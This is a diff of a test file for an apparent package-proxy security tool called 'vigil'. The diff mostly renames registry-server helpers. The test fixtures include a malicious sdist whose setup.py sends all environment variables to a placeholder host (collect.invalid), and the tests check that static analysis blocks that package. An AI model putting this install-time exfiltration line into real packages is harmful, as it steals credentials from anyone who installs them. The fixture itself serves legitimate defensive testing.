@@ -8,23 +8,25 @@ import { spawnSync } from 'node:child_process';
 import { makeSdist, makeWheel } from '../helpers/archives.js';
 import { runCommand } from '../../src/cli/commands/run.js';
 import type { CliIO } from '../../src/cli/command.js';
-import { startFixtureUpstream } from './fixture-upstream.js';
-import type { FixtureUpstream } from './fixture-upstream.js';
+import { startRegistryServer } from '../helpers/registry-server.js';
+import type { RegistryServer } from '../helpers/registry-server.js';
 
 const wheel = makeWheel('goodpkg', '1.0', { 'goodpkg/__init__.py': 'VALUE = 1\n' });
 const evilSdist = makeSdist('evilpkg', '1.0', {
   'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://collect.invalid/", data=repr(dict(os.environ)).encode())\n',
 });
 const hasPip = spawnSync('python3', ['-m', 'pip', '--version']).status === 0;
-let upstream: FixtureUpstream;
+let upstream: RegistryServer;
 let work = '';
 
 before(async () => {
   work = mkdtempSync(join(tmpdir(), 'vigil-run-'));
-  upstream = await startFixtureUpstream([
-      { project: 'goodpkg', version: '1.0', filename: 'goodpkg-1.0-py3-none-any.whl', bytes: wheel },
-      { project: 'evilpkg', version: '1.0', filename: 'evilpkg-1.0.tar.gz', bytes: evilSdist },
-    ], []);
+  upstream = await startRegistryServer({
+    pypi: [
+      { name: 'goodpkg', files: [{ version: '1.0', filename: 'goodpkg-1.0-py3-none-any.whl', bytes: wheel }] },
+      { name: 'evilpkg', files: [{ version: '1.0', filename: 'evilpkg-1.0.tar.gz', bytes: evilSdist }] },
+    ],
+  });
 });
 
 after(async () => {
@@ -72,7 +74,7 @@ test('the command runs without credentials, pointed at the proxy; --keep-env pas
   };
   const { io: cli, err } = io(env);
   const code = await runCommand.run(
-    ['--keep-env', 'NODE_AUTH_TOKEN', '--upstream-pypi', upstream.pypiUrl, '--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(out)}, JSON.stringify(process.env))`],
+    ['--keep-env', 'NODE_AUTH_TOKEN', '--upstream-pypi', upstream.pypiIndexUrl, '--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(out)}, JSON.stringify(process.env))`],
     cli,
   );
   assert.equal(code, 0, err());
@@ -114,7 +116,7 @@ test('a blocked download makes vigil run exit non-zero even when the command suc
     const file = await fetch(base.replace('/simple/', '/files/') + 'goodpkg/goodpkg-1.0-py3-none-any.whl');
     console.error('listed=' + page.includes('goodpkg-1.0') + ' status=' + file.status);
   })()`;
-  const code = await runCommand.run(['--policy', policy, '--upstream-pypi', upstream.pypiUrl, '--', process.execPath, '-e', script], cli);
+  const code = await runCommand.run(['--policy', policy, '--upstream-pypi', upstream.pypiIndexUrl, '--', process.execPath, '-e', script], cli);
   assert.equal(code, 1, err());
   assert.match(err(), /listed=false status=403/);
   assert.match(err(), /hid goodpkg 1\.0: denied by policy/);
@@ -128,8 +130,8 @@ test('pip through vigil run with the real static analysis: benign arrives intact
   const dest = join(work, 'dl-real');
   const pipArgs = ['python3', '-m', 'pip', 'download', '--no-deps', '--no-cache-dir', '--timeout', '60', '-d', dest];
   const [goodCode, code] = await Promise.all([
-    runCommand.run(['--upstream-pypi', upstream.pypiUrl, '--', ...pipArgs, 'goodpkg==1.0'], good.io),
-    runCommand.run(['--upstream-pypi', upstream.pypiUrl, '--', ...pipArgs, 'evilpkg==1.0'], evil.io),
+    runCommand.run(['--upstream-pypi', upstream.pypiIndexUrl, '--', ...pipArgs, 'goodpkg==1.0'], good.io),
+    runCommand.run(['--upstream-pypi', upstream.pypiIndexUrl, '--', ...pipArgs, 'evilpkg==1.0'], evil.io),
   ]);
   assert.equal(goodCode, 0, good.err());
   assert.deepEqual(new Uint8Array(readFileSync(join(dest, 'goodpkg-1.0-py3-none-any.whl'))), wheel);
